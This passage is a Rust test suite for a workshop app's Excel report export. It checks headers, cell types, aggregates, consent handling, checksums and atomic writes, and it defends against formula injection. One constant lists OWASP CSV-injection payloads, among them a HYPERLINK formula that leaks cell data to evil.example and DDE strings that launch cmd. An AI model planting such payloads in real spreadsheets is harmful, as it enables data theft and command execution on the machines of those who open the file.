//! The report workbook, read back as a spreadsheet program would: sheets, headers and cell
//! types (calamine), the Summary's numbers against the database's own aggregates, consent,
//! formula injection, checksums and the seal recomputed from what is read, the atomic write,
//! the `export` command, and an independent reader (openpyxl).

use crate::fixtures::{Clock, DataDir, kathmandu, number, person};
use calamine::{Data, Range, Reader, Xlsx, open_workbook};
use chrono::{DateTime, Utc};
use std::path::{Path, PathBuf};
use std::process::Command;
use uuid::Uuid;
use workshop_core::board::{self, BoardInput, Quadrant, RaisedBy};
use workshop_core::participant::{self, ParticipantInput, Sex};
use workshop_core::plans::{self, ActionInput, PlanInput};
use workshop_core::workbook::checksum::{Cell, SheetChecksum, SheetHasher, seal};
use workshop_core::workbook::format::{self, Kind, about, sheet};
use workshop_core::workbook::{self, ExportOptions, Exported, Profile, Progress};
use workshop_core::{Database, attendance, demo, summary, time};

/// Wednesday noon in Kathmandu: the demo has two and a half days of attendance.
fn wednesday() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-25T06:15:00Z")
        .unwrap()
        .with_timezone(&Utc)
}

struct Demo {
    data: DataDir,
    db: Database,
    workshop: Uuid,
}

fn demo_workshop() -> Demo {
    let data = DataDir::new();
    let mut db = Database::open(&data.database(), wednesday()).unwrap();
    let workshop = demo::create_default(&mut db, wednesday()).unwrap().id;
    Demo { data, db, workshop }
}

fn export(db: &Database, workshop: Uuid, profile: Profile, path: &Path) -> Exported {
    let options = ExportOptions {
        profile,
        now: wednesday() + chrono::Duration::milliseconds(1_234),
    };
    workbook::export(db, workshop, &options, path, &mut |_| {}).unwrap()
}

struct Book {
    xlsx: Xlsx<std::io::BufReader<std::fs::File>>,
}

impl Book {
    fn open(path: &Path) -> Self {
        Self {
            xlsx: open_workbook(path).unwrap(),
        }
    }

    fn names(&self) -> Vec<String> {
        self.xlsx.sheet_names().clone()
    }

    fn sheet(&mut self, name: &str) -> Range<Data> {
        self.xlsx.worksheet_range(name).unwrap()
    }

    /// Cells holding a formula on a sheet.
    fn formulas(&mut self, name: &str) -> usize {
        self.xlsx
            .worksheet_formula(name)
            .unwrap()
            .used_cells()
            .filter(|(_, _, f)| !f.is_empty())
            .count()
    }
}

fn at(range: &Range<Data>, row: u32, col: u32) -> Data {
    range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

fn headers(range: &Range<Data>) -> Vec<String> {
    (0..range.end().map_or(0, |(_, c)| c + 1))
        .map(|col| at(range, 0, col).to_string())
        .collect()
}

fn column_of(range: &Range<Data>, header: &str) -> u32 {
    headers(range)
        .iter()
        .position(|h| h == header)
        .unwrap_or_else(|| panic!("no column {header:?} in {:?}", headers(range))) as u32
}

/// The data rows of a table (the rows below it, like the grid's totals, are not its rows).
fn data_rows(range: &Range<Data>, rows: u64) -> Vec<Vec<Data>> {
    let width = headers(range).len() as u32;
    (1..=rows as u32)
        .map(|row| (0..width).map(|col| at(range, row, col)).collect())
        .collect()
}

/// What an importer rebuilds from a cell read back, by the column's kind.
fn cell_of(data: &Data, kind: Kind) -> Cell {
    match (data, kind) {
        (Data::Empty, _) => Cell::Empty,
        (Data::String(text), _) => Cell::text(text.clone()),
        (Data::Bool(value), _) => Cell::Bool(*value),
        (Data::Int(n), Kind::Real | Kind::Percent) => Cell::Real(*n as f64),
        (Data::Int(n), _) => Cell::Integer(*n),
        (Data::Float(f), Kind::Integer) => Cell::Integer(*f as i64),
        (Data::Float(f), _) => Cell::Real(*f),
        (Data::DateTime(dt), Kind::Date) => {
            Cell::Date(format::date_from_serial(dt.as_f64()).unwrap())
        }
        (Data::DateTime(dt), _) => {
            Cell::Timestamp(format::timestamp_from_serial(dt.as_f64()).unwrap())
        }
        (other, _) => panic!("unexpected cell {other:?}"),
    }
}

/// The About sheet as an importer reads it: metadata, per-sheet checksums, the seal.
struct About {
    metadata: Vec<(String, Cell)>,
    sheets: Vec<SheetChecksum>,
    seal: String,
}

fn read_about(book: &mut Book) -> About {
    let range = book.sheet(sheet::ABOUT);
    let mut metadata = Vec::new();
    let mut sheets = Vec::new();
    let mut seal = String::new();
    let mut in_sheets = false;
    for row in 0..range.height() as u32 {
        let label = at(&range, row, 0).to_string();
        if about::METADATA.contains(&label.as_str()) {
            let value = match (label.as_str(), at(&range, row, 1)) {
                (about::FORMAT_VERSION, Data::Float(f)) => Cell::Integer(f as i64),
                (about::FORMAT_VERSION, Data::Int(n)) => Cell::Integer(n),
                (_, Data::DateTime(dt)) => {
                    Cell::Timestamp(format::timestamp_from_serial(dt.as_f64()).unwrap())
                }
                (_, other) => Cell::text(other.to_string()),
            };
            metadata.push((label, value));
        } else if label == about::SHEET {
            in_sheets = true;
        } else if label == about::SEAL {
            seal = at(&range, row, 2).to_string();
            in_sheets = false;
        } else if in_sheets && !label.is_empty() {
            let rows = match at(&range, row, 1) {
                Data::Float(f) => f as u64,
                Data::Int(n) => n as u64,
                other => panic!("rows {other:?}"),
            };
            sheets.push(SheetChecksum {
                name: label,
                rows,
                checksum: at(&range, row, 2).to_string(),
            });
        }
    }
    About {
        metadata,
        sheets,
        seal,
    }
}

fn columns_of(range: &Range<Data>, name: &str, full: bool) -> Vec<format::Column> {
    let sheet = format::DATA_SHEETS.iter().find(|s| s.name == name).unwrap();
    if name == sheet::ATTENDANCE {
        let slots = headers(range)[format::ATTENDANCE_BEFORE_SLOTS.len()
            ..headers(range).len() - format::ATTENDANCE_AFTER_SLOTS.len()]
            .to_vec();
        format::attendance_columns(&slots)
    } else {
        sheet.columns_for(full)
    }
}

#[test]
fn sheets_headers_and_cell_types_read_back_as_written() {
    let demo = demo_workshop();
    let path = demo.data.path().join("report.xlsx");
    let exported = export(&demo.db, demo.workshop, Profile::Report, &path);
    assert_eq!(exported.path, path);
    assert!(exported.bytes > 10_000, "{} bytes", exported.bytes);
    let mut book = Book::open(&path);
    let expected: Vec<&str> = std::iter::once(sheet::SUMMARY)
        .chain(
            format::DATA_SHEETS
                .iter()
                .filter(|s| !s.full_only)
                .map(|s| s.name),
        )
        .chain(std::iter::once(sheet::ABOUT))
        .collect();
    assert_eq!(book.names(), expected, "the sheets, in order");
    assert_eq!(
        exported
            .sheets
            .iter()
            .map(|s| s.name.as_str())
            .collect::<Vec<_>>(),
        expected[1..expected.len() - 1],
        "the export reports every data sheet"
    );

    for sheet_format in format::DATA_SHEETS.iter().filter(|s| !s.full_only) {
        let range = book.sheet(sheet_format.name);
        let columns = columns_of(&range, sheet_format.name, false);
        let wanted: Vec<String> = columns.iter().map(|c| c.header.to_string()).collect();
        assert_eq!(
            headers(&range),
            wanted,
            "the headers of {}",
            sheet_format.name
        );
        let rows = exported
            .sheets
            .iter()
            .find(|s| s.name == sheet_format.name)
            .unwrap()
            .rows;
        for (index, row) in data_rows(&range, rows).iter().enumerate() {
            for (column, cell) in columns.iter().zip(row) {
                let fits = matches!(
                    (column.kind, cell),
                    (_, Data::Empty)
                        | (
                            Kind::Integer | Kind::Real | Kind::Percent,
                            Data::Float(_) | Data::Int(_)
                        )
                        | (Kind::Date | Kind::Timestamp, Data::DateTime(_))
                        | (Kind::Bool, Data::Bool(_))
                        | (
                            Kind::Id
                                | Kind::Text
                                | Kind::LongText
                                | Kind::List
                                | Kind::Choice(_)
                                | Kind::Mark,
                            Data::String(_)
                        )
                );
                assert!(
                    fits,
                    "{} row {} column {:?} should be {:?}, is {cell:?}",
                    sheet_format.name,
                    index + 2,
                    column.header,
                    column.kind
                );
            }
            // Every record carries its stable ID and the time it last changed.
            if sheet_format.entity.is_some() && sheet_format.name != sheet::CHANGE_LOG {
                let id = at(&range, index as u32 + 1, column_of(&range, "ID"));
                assert!(
                    Uuid::parse_str(&id.to_string()).is_ok(),
                    "{} row {}: ID {id:?}",
                    sheet_format.name,
                    index + 2
                );
                let updated = at(
                    &range,
                    index as u32 + 1,
                    column_of(&range, "Updated at (UTC)"),
                );
                assert!(
                    matches!(updated, Data::DateTime(_)),
                    "{} row {}: updated at {updated:?}",
                    sheet_format.name,
                    index + 2
                );
            }
        }
    }
}

#[test]
fn checksums_and_the_seal_recomputed_from_what_is_read_match_the_about_sheet() {
    let demo = demo_workshop();
    for (profile, full) in [(Profile::Report, false), (Profile::FullTransfer, true)] {
        let path = demo.data.path().join(format!("{}.xlsx", profile.as_str()));
        export(&demo.db, demo.workshop, profile, &path);
        let mut book = Book::open(&path);
        let about = read_about(&mut book);
        assert_eq!(
            about
                .metadata
                .iter()
                .map(|(l, _)| l.as_str())
                .collect::<Vec<_>>(),
            about::METADATA,
            "every metadata line is there, in order"
        );
        assert_eq!(
            about.metadata[0].1,
            Cell::Integer(format::FORMAT_VERSION.into())
        );
        assert_eq!(about.metadata[2].1, Cell::text(profile.as_str()));
        assert_eq!(about.metadata[3].1, Cell::text(demo.workshop.to_string()));
        assert_eq!(
            about.metadata[5].1,
            Cell::text(demo.db.device_id().to_string())
        );
        assert_eq!(
            about.metadata[6].1,
            Cell::timestamp("2026-11-25T06:15:01.234Z"),
            "the export time, to the millisecond"
        );
        for line in &about.sheets {
            let range = book.sheet(&line.name);
            let columns = columns_of(&range, &line.name, full);
            let headers: Vec<&str> = columns.iter().map(|c| c.header.as_ref()).collect();
            let mut hasher = SheetHasher::new(&headers);
            for row in data_rows(&range, line.rows) {
                let cells: Vec<Cell> = row
                    .iter()
                    .zip(&columns)
                    .map(|(data, column)| cell_of(data, column.kind))
                    .collect();
                hasher.row(&cells);
            }
            assert_eq!(
                hasher.finish(),
                line.checksum,
                "the checksum of {} ({}) recomputed from the cells read back",
                line.name,
                profile.as_str()
            );
        }
        let metadata: Vec<(&str, Cell)> = about
            .metadata
            .iter()
            .map(|(l, c)| (l.as_str(), c.clone()))
            .collect();
        assert_eq!(seal(&metadata, &about.sheets), about.seal, "the seal holds");
        let mut tampered = about.sheets.clone();
        tampered[0].rows += 1;
        assert_ne!(
            seal(&metadata, &tampered),
            about.seal,
            "an edited count breaks it"
        );
    }
}

#[test]
fn timestamps_and_dates_read_back_exactly_as_stored() {
    let demo = demo_workshop();
    let path = demo.data.path().join("report.xlsx");
    export(&demo.db, demo.workshop, Profile::FullTransfer, &path);
    let mut book = Book::open(&path);
    let range = book.sheet(sheet::SIGN_INS);
    let (id, signed, day, updated) = (
        column_of(&range, "ID"),
        column_of(&range, "Signed in at (UTC)"),
        column_of(&range, "Day"),
        column_of(&range, "Updated at (UTC)"),
    );
    let mut checked = 0;
    for row in 1..range.height() as u32 {
        let record: (String, String, String) = demo
            .db
            .conn()
            .query_row(
                "SELECT signed_in_at, day, updated_at FROM attendance WHERE id = ?1",
                [at(&range, row, id).to_string()],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )
            .unwrap();
        let read = |col| match at(&range, row, col) {
            Data::DateTime(dt) => dt.as_f64(),
            other => panic!("{other:?}"),
        };
        assert_eq!(
            time::timestamp(format::timestamp_from_serial(read(signed)).unwrap()),
            record.0
        );
        assert_eq!(
            format::date_from_serial(read(day)).unwrap().to_string(),
            record.1
        );
        assert_eq!(
            time::timestamp(format::timestamp_from_serial(read(updated)).unwrap()),
            record.2
        );
        checked += 1;
    }
    assert!(checked > 50, "{checked} sign-ins checked");
}

/// The rows below a Summary heading, as (label, values), up to its total or an empty row.
fn summary_table(range: &Range<Data>, heading: &str) -> Vec<(String, Vec<Data>)> {
    let start = (0..range.height() as u32)
        .find(|row| matches!(at(range, *row, 0), Data::String(text) if text == heading))
        .unwrap_or_else(|| panic!("no section {heading:?}"));
    // The heading, a blank row, the header row, then the data.
    let mut rows = Vec::new();
    let mut row = start + 3;
    while !matches!(at(range, row, 0), Data::Empty) {
        let label = at(range, row, 0).to_string();
        rows.push((
            label.clone(),
            (1..8).map(|col| at(range, row, col)).collect(),
        ));
        if label == "Total" {
            break;
        }
        row += 1;
    }
    rows
}

#[test]
fn the_summary_s_numbers_are_the_database_s_aggregates() {
    let demo = demo_workshop();
    let path = demo.data.path().join("report.xlsx");
    export(&demo.db, demo.workshop, Profile::Report, &path);
    let conn = demo.db.conn();
    let counts = summary::summarize(conn, demo.workshop).unwrap();
    let grid = attendance::grid(conn, demo.workshop).unwrap();
    let rollup = plans::rollup(conn, demo.workshop).unwrap();
    let mut book = Book::open(&path);
    let range = book.sheet(sheet::SUMMARY);
    assert_eq!(
        counts.headline,
        "18 participants (9 women) from 12 countries; 6 under 35"
    );
    assert!(
        (0..12).any(|row| at(&range, row, 0).to_string() == counts.headline),
        "the headline line is on the Summary"
    );

    let by_sex = summary_table(&range, "Participants by sex");
    let value = |rows: &[(String, Vec<Data>)], label: &str, col: usize| -> f64 {
        number(
            &rows
                .iter()
                .find(|(l, _)| l == label)
                .unwrap_or_else(|| panic!("{label}"))
                .1[col],
        )
    };
    assert_eq!(value(&by_sex, "Women", 0), f64::from(counts.women));
    assert_eq!(value(&by_sex, "Men", 0), f64::from(counts.men));
    assert_eq!(
        value(&by_sex, "Total", 0),
        f64::from(counts.total),
        "the SUM's cached value"
    );
    assert_eq!(
        value(&by_sex, "Women", 1),
        f64::from(counts.women) / f64::from(counts.total)
    );

    let by_role = summary_table(&range, "Participants by role");
    for role in &counts.by_role {
        let label = format::ROLE.label(role.role.as_str());
        assert_eq!(value(&by_role, label, 0), f64::from(role.total), "{label}");
        assert_eq!(value(&by_role, label, 1), f64::from(role.women), "{label}");
    }

    let by_country = summary_table(&range, "Participants by country and sex");
    assert_eq!(
        by_country.len(),
        counts.by_country.len() + 1,
        "countries and the total"
    );
    for (row, country) in by_country.iter().zip(&counts.by_country) {
        assert_eq!(Some(row.0.as_str()), country.country_name);
        assert_eq!(number(&row.1[0]), f64::from(country.total));
        assert_eq!(number(&row.1[1]), f64::from(country.women));
        assert_eq!(number(&row.1[2]), f64::from(country.men));
        assert_eq!(number(&row.1[4]), f64::from(country.youth));
    }
    assert_eq!(value(&by_country, "Total", 4), f64::from(counts.youth));

    let youth = summary_table(&range, "Youth (under 35) by sex");
    assert_eq!(value(&youth, "Total", 0), f64::from(counts.youth));
    assert_eq!(value(&youth, "Women", 0), f64::from(counts.youth_women));
    assert_eq!(value(&youth, "Total", 2), f64::from(counts.age_unknown));
    assert_eq!(value(&youth, "Total", 3), f64::from(counts.total));

    let sessions = summary_table(&range, "Attendance per session");
    assert_eq!(sessions.len(), grid.slots.len());
    for ((_, cells), total) in sessions.iter().zip(&grid.totals) {
        assert_eq!(number(&cells[0]), f64::from(total.total));
        assert_eq!(number(&cells[1]), f64::from(total.women));
        assert_eq!(number(&cells[2]), f64::from(total.men));
    }
    let per_day = summary_table(&range, "Attendance per day");
    let monday: f64 = grid.totals[..2].iter().map(|t| f64::from(t.total)).sum();
    assert_eq!(number(&per_day[0].1[0]) + number(&per_day[0].1[1]), monday);
    // A rate of sessions nobody has signed in to yet is a dash, in both tables.
    let not_yet = Data::String("\u{2013}".to_string());
    for ((_, cells), total) in sessions.iter().zip(&grid.totals) {
        assert_eq!(total.total == 0, cells[3] == not_yet, "{cells:?}");
    }
    for (day, cells) in &per_day {
        let held = number(&cells[0]) + number(&cells[1]) > 0.0;
        assert_eq!(!held, cells[2] == not_yet, "{day}: {cells:?}");
    }
    assert!(
        per_day.iter().any(|(_, cells)| cells[2] == not_yet),
        "the demo, exported on Wednesday, has days to come"
    );

    let boards = summary_table(&range, "SWOT boards");
    let listed = board::list(conn, demo.workshop).unwrap();
    assert_eq!(boards.len(), listed.len() + 1);
    for ((_, cells), summary) in boards.iter().zip(&listed) {
        assert_eq!(
            number(&cells[5]),
            f64::from(summary.notes),
            "notes of a board"
        );
        let quadrants: f64 = (1..5).map(|i| number(&cells[i])).sum();
        assert_eq!(quadrants, f64::from(summary.notes));
    }

    let status = summary_table(&range, "Actions by status");
    for count in &rollup.by_status {
        assert_eq!(
            value(&status, format::STATUS.label(&count.key), 0),
            f64::from(count.count)
        );
    }
    let themes = summary_table(&range, "Actions by theme");
    for count in &rollup.by_theme {
        assert_eq!(
            value(&themes, &count.key, 0),
            f64::from(count.count),
            "{}",
            count.key
        );
    }

    // The Countries sheet adds up to the same headcount.
    let countries = book.sheet(sheet::COUNTRIES);
    let participants = column_of(&countries, "Participants");
    let total: f64 = (1..countries.height() as u32)
        .map(|row| number(&at(&countries, row, participants)))
        .sum();
    assert_eq!(total, f64::from(counts.total));
}

#[test]
fn the_summary_s_charts_draw_its_own_numbers() {
    use crate::charts::{self, titled};
    let demo = demo_workshop();
    let path = demo.data.path().join("report.xlsx");
    export(&demo.db, demo.workshop, Profile::Report, &path);
    let conn = demo.db.conn();
    let counts = summary::summarize(conn, demo.workshop).unwrap();
    let grid = attendance::grid(conn, demo.workshop).unwrap();
    let rollup = plans::rollup(conn, demo.workshop).unwrap();
    let all = charts::read(&path);
    let titles: Vec<&str> = all.iter().map(|c| c.title.as_str()).collect();
    assert_eq!(
        titles,
        [
            "Participants by sex",
            "Participants by country and sex",
            "Attendance per day",
            "Actions by theme"
        ]
    );
    let labels = |series: &charts::Series| -> Vec<String> {
        series.categories.iter().map(ToString::to_string).collect()
    };

    let by_sex = &titled(&all, "Participants by sex").series[0];
    let drawn: Vec<(String, f64)> = labels(by_sex)
        .into_iter()
        .zip(by_sex.values.iter().map(number))
        .collect();
    assert_eq!(
        drawn,
        [
            ("Women".to_string(), f64::from(counts.women)),
            ("Men".to_string(), f64::from(counts.men)),
            ("Another".to_string(), f64::from(counts.another)),
            ("Not stated".to_string(), f64::from(counts.not_stated)),
        ]
    );

    // One bar a country, in the Summary's order, split into women, men and the others.
    let by_country = titled(&all, "Participants by country and sex");
    let names: Vec<&str> = by_country.series.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, ["Women", "Men", "Other or not stated"]);
    let countries = labels(&by_country.series[0]);
    assert_eq!(countries.len(), counts.by_country.len());
    for (i, country) in counts.by_country.iter().enumerate() {
        assert_eq!(countries[i], country.country_name.unwrap_or_default());
        assert_eq!(
            by_country.totals()[i],
            f64::from(country.total),
            "{countries:?}"
        );
        assert_eq!(
            number(&by_country.series[0].values[i]),
            f64::from(country.women)
        );
        assert_eq!(
            number(&by_country.series[1].values[i]),
            f64::from(country.men)
        );
    }

    // A column a day for each session, as many present as the attendance grid counts.
    let per_day = titled(&all, "Attendance per day");
    assert_eq!(per_day.series.len(), 2, "two sessions a day");
    let drawn: f64 = per_day.totals().iter().sum();
    let marked: u32 = grid.totals.iter().map(|t| t.total).sum();
    assert!(marked > 0);
    assert_eq!(drawn, f64::from(marked));

    let by_theme = &titled(&all, "Actions by theme").series[0];
    let drawn: Vec<(String, f64)> = labels(by_theme)
        .into_iter()
        .zip(by_theme.values.iter().map(number))
        .collect();
    let expected: Vec<(String, f64)> = rollup
        .by_theme
        .iter()
        .map(|c| (c.key.clone(), f64::from(c.count)))
        .collect();
    assert!(!expected.is_empty());
    assert_eq!(drawn, expected);
}

#[test]
fn the_report_shares_contact_details_only_with_consent_and_the_full_transfer_warns() {
    let demo = demo_workshop();
    let (report, full) = (
        demo.data.path().join("report.xlsx"),
        demo.data.path().join("full.xlsx"),
    );
    export(&demo.db, demo.workshop, Profile::Report, &report);
    export(&demo.db, demo.workshop, Profile::FullTransfer, &full);
    let people = participant::list(&demo.db, demo.workshop, "", false).unwrap();
    assert!(
        people.iter().any(|p| p.consent_contact) && people.iter().any(|p| !p.consent_contact),
        "the demo has both"
    );
    for (path, is_full) in [(&report, false), (&full, true)] {
        let mut book = Book::open(path);
        let range = book.sheet(sheet::PARTICIPANTS);
        let (id, email, phone, says) = (
            column_of(&range, "ID"),
            column_of(&range, "Email"),
            column_of(&range, "Phone"),
            column_of(&range, "Contact details"),
        );
        for row in 1..range.height() as u32 {
            let person = people
                .iter()
                .find(|p| p.id.to_string() == at(&range, row, id).to_string())
                .unwrap();
            let shown = is_full || person.consent_contact;
            let expected = |value: &str| {
                if shown && !value.is_empty() {
                    Data::String(value.to_string())
                } else {
                    Data::Empty
                }
            };
            assert_eq!(
                at(&range, row, email),
                expected(&person.email),
                "{}",
                person.full_name
            );
            assert_eq!(
                at(&range, row, phone),
                expected(&person.phone),
                "{}",
                person.full_name
            );
            let said = at(&range, row, says).to_string();
            assert!(
                said.starts_with(if shown { "Included" } else { "Withheld" }),
                "{said}"
            );
        }
        let summary = book.sheet(sheet::SUMMARY);
        let banner = at(&summary, 3, 0).to_string();
        assert_eq!(
            banner.contains("PERSONAL DATA"),
            is_full,
            "the first sheet says so when the file holds personal data: {banner}"
        );
        assert_eq!(
            book.names().contains(&sheet::CHANGE_LOG.to_string()),
            is_full,
            "the history is in the full transfer only"
        );
    }
}

#[test]
fn deleted_records_and_the_history_are_in_the_full_transfer_only() {
    let mut demo = demo_workshop();
    let someone = participant::list(&demo.db, demo.workshop, "", false).unwrap()[0].clone();
    participant::delete(&mut demo.db, someone.id, wednesday()).unwrap();
    let (report, full) = (
        demo.data.path().join("report.xlsx"),
        demo.data.path().join("full.xlsx"),
    );
    let report_counts = export(&demo.db, demo.workshop, Profile::Report, &report);
    let full_counts = export(&demo.db, demo.workshop, Profile::FullTransfer, &full);
    let rows = |exported: &Exported, name: &str| {
        exported
            .sheets
            .iter()
            .find(|s| s.name == name)
            .map(|s| s.rows)
    };
    assert_eq!(rows(&report_counts, sheet::PARTICIPANTS), Some(17));
    assert_eq!(rows(&full_counts, sheet::PARTICIPANTS), Some(18));
    let logged: i64 = demo
        .db
        .conn()
        .query_row(
            "SELECT count(*) FROM change_log WHERE workshop_id = ?1",
            [demo.workshop.to_string()],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(rows(&full_counts, sheet::CHANGE_LOG), Some(logged as u64));
    assert_eq!(rows(&report_counts, sheet::CHANGE_LOG), None);

    let mut book = Book::open(&full);
    let range = book.sheet(sheet::PARTICIPANTS);
    let (id, deleted) = (
        column_of(&range, "ID"),
        column_of(&range, "Deleted at (UTC)"),
    );
    let row = (1..range.height() as u32)
        .find(|row| at(&range, *row, id).to_string() == someone.id.to_string())
        .expect("the deleted participant is in the full transfer");
    assert!(matches!(at(&range, row, deleted), Data::DateTime(_)));
    let mut report_book = Book::open(&report);
    assert!(
        !headers(&report_book.sheet(sheet::PARTICIPANTS)).contains(&"Deleted at (UTC)".to_string()),
        "the report has no deleted rows, so no such column"
    );
}

/// The OWASP CSV-injection payloads, and the same after a tab or a carriage return.
const PAYLOADS: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "_x000D_ and _x005F_ stay as typed",
];

#[test]
fn injection_payloads_are_written_as_text_and_read_back_byte_for_byte() {
    let clock = Clock::new();
    let data = DataDir::new();
    let mut db = data.open(&clock);
    let workshop = kathmandu(&mut db, &clock);
    let mut people = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        // Through the app, which trims the text and refuses tabs and line breaks in a name...
        let mut input: ParticipantInput =
            person(&format!("Person {i}"), Sex::Woman, "NP", Some(1990));
        input.organisation = payload.replace(['\t', '\r'], " ");
        input.notes = (*payload).into();
        input.email = format!("p{i}@example.org");
        input.consent_contact = true;
        people.push(
            participant::create(&mut db, workshop.id, &input, clock.tick())
                .unwrap()
                .id,
        );
    }
    // ...and as a database could hold them from elsewhere, untrimmed: the writer must cope with
    // any stored text.
    for (id, payload) in people.iter().zip(PAYLOADS) {
        db.conn()
            .execute(
                "UPDATE participant SET full_name = ?1, notes = ?1 WHERE id = ?2",
                [payload.to_string(), id.to_string()],
            )
            .unwrap();
    }
    let board_id = board::create(
        &mut db,
        workshop.id,
        &BoardInput {
            question: PAYLOADS[0].into(),
            ..Default::default()
        },
        clock.tick(),
    )
    .unwrap()
    .id;
    let mut notes = Vec::new();
    for payload in PAYLOADS {
        notes.push(
            board::add_note(
                &mut db,
                board_id,
                Quadrant::Threats,
                payload,
                RaisedBy::default(),
                clock.tick(),
            )
            .unwrap()
            .id,
        );
    }
    let plan = plans::create_plan(
        &mut db,
        workshop.id,
        &PlanInput {
            title: PAYLOADS[1].into(),
            ..Default::default()
        },
        clock.tick(),
    )
    .unwrap();
    plans::add_action(
        &mut db,
        plan.id,
        &ActionInput {
            description: PAYLOADS[2].into(),
            responsible: PAYLOADS[3].into(),
            themes: vec![PAYLOADS[4].into()],
            ..Default::default()
        },
        &notes[..2],
        clock.tick(),
    )
    .unwrap();

    for (id, payload) in notes.iter().zip(PAYLOADS).skip(2) {
        db.conn()
            .execute(
                "UPDATE note SET text = ?1 WHERE id = ?2",
                [payload.to_string(), id.to_string()],
            )
            .unwrap();
    }

    let path = data.path().join("payloads.xlsx");
    let options = ExportOptions {
        profile: Profile::FullTransfer,
        now: clock.tick(),
    };
    workbook::export(&db, workshop.id, &options, &path, &mut |_| {}).unwrap();

    let mut book = Book::open(&path);
    // Every payload is somewhere as exactly that string, never evaluated.
    let mut strings: Vec<String> = Vec::new();
    for name in book.names() {
        let range = book.sheet(&name);
        strings.extend(range.used_cells().filter_map(|(_, _, d)| match d {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
        if name != sheet::SUMMARY {
            assert_eq!(book.formulas(&name), 0, "no formula on the sheet {name}");
        }
    }
    for payload in PAYLOADS {
        assert!(
            strings.iter().any(|s| s == payload),
            "{payload:?} is read back as the same text"
        );
    }
    let range = book.sheet(sheet::PARTICIPANTS);
    let notes_col = column_of(&range, "Notes");
    let read: Vec<String> = (1..range.height() as u32)
        .map(|row| at(&range, row, notes_col).to_string())
        .collect();
    for payload in PAYLOADS {
        assert!(
            read.iter().any(|n| n == payload),
            "{payload:?} in the notes"
        );
    }
    assert!(
        book.formulas(sheet::SUMMARY) > 0,
        "the Summary's own totals are formulas"
    );
}

#[test]
fn a_failed_export_leaves_the_target_untouched_and_no_temporary_file() {
    let demo = demo_workshop();
    let dir = demo.data.path().join("out");
    std::fs::create_dir(&dir).unwrap();
    let target = dir.join("report.xlsx");
    std::fs::write(&target, b"the previous report").unwrap();
    // A note longer than a cell can hold (only possible outside the app's own validation).
    demo.db
        .conn()
        .execute(
            "UPDATE participant SET notes = ?1 WHERE id = (SELECT id FROM participant LIMIT 1)",
            ["x".repeat(40_000)],
        )
        .unwrap();
    let options = ExportOptions {
        profile: Profile::FullTransfer,
        now: wednesday(),
    };
    let error =
        workbook::export(&demo.db, demo.workshop, &options, &target, &mut |_| {}).unwrap_err();
    assert_eq!(error.code(), "too_long");
    let message = error.to_string();
    assert!(
        message.contains("report.xlsx") && message.contains("Notes"),
        "{message}"
    );
    assert_eq!(std::fs::read(&target).unwrap(), b"the previous report");
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        left,
        vec![std::ffi::OsString::from("report.xlsx")],
        "nothing else is left"
    );

    let missing = demo.data.path().join("no such folder").join("report.xlsx");
    let error =
        workbook::export(&demo.db, demo.workshop, &options, &missing, &mut |_| {}).unwrap_err();
    assert_eq!(error.code(), "io");
    assert!(error.to_string().contains("report.xlsx"), "{error}");

    let error =
        workbook::export(&demo.db, Uuid::nil(), &options, &target, &mut |_| {}).unwrap_err();
    assert_eq!(error.code(), "not_found");
}

#[test]
fn progress_is_reported_every_thousand_rows_up_to_the_total() {
    let data = DataDir::new();
    let mut db = Database::open(&data.database(), wednesday()).unwrap();
    let workshop = demo::create(&mut db, 400, 7, wednesday()).unwrap().id;
    let mut seen: Vec<Progress> = Vec::new();
    let options = ExportOptions {
        profile: Profile::Report,
        now: wednesday(),
    };
    let exported = workbook::export(
        &db,
        workshop,
        &options,
        &data.path().join("big.xlsx"),
        &mut |p| seen.push(p.clone()),
    )
    .unwrap();
    let total: u64 = exported.sheets.iter().map(|s| s.rows).sum();
    assert!(total > 2_000, "{total} rows");
    assert!(seen.iter().all(|p| p.total == total));
    assert!(
        seen.windows(2).all(|w| w[0].done <= w[1].done),
        "done only grows"
    );
    assert_eq!(
        seen.first().map(|p| (p.done, p.sheet.as_str())),
        Some((0, sheet::SUMMARY))
    );
    assert_eq!(seen.last().map(|p| p.done), Some(total));
    let thousands = seen
        .iter()
        .filter(|p| p.done > 0 && p.done % 1_000 == 0)
        .count() as u64;
    assert_eq!(thousands, total / 1_000, "one report per thousand rows");
    assert!(
        seen.iter().any(|p| p.sheet == sheet::SIGN_INS),
        "the sheet being written is named"
    );
}

#[test]
fn the_file_name_comes_from_the_dates_venue_and_title() {
    let demo = demo_workshop();
    let workshop = workshop_core::workshop::get(demo.db.conn(), demo.workshop).unwrap();
    let name = workbook::file_name(&workshop);
    assert!(
        name.starts_with("2026-11-23 to 2026-11-27 Kathmandu - "),
        "{name}"
    );
    assert!(name.ends_with(".xlsx"));
}

fn workshop_cli(data_dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_workshop"))
        .arg("--data-dir")
        .arg(data_dir)
        .args(args)
        .env_remove("WORKSHOP_DESK_DATA_DIR")
        .output()
        .unwrap()
}

#[test]
fn the_export_command_writes_the_latest_workshop_and_fails_clearly() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();

    let nothing = workshop_cli(&data, &["export", "--latest", "-o", out.to_str().unwrap()]);
    assert!(!nothing.status.success());
    let stderr = String::from_utf8_lossy(&nothing.stderr);
    assert!(stderr.contains("no workshop"), "{stderr}");

    assert!(
        workshop_cli(&data, &["demo", "--as-of", "2026-11-25T12:00:00+05:45"])
            .status
            .success()
    );
    let ok = workshop_cli(&data, &["export", "--latest", "-o", out.to_str().unwrap()]);
    assert!(
        ok.status.success(),
        "{}",
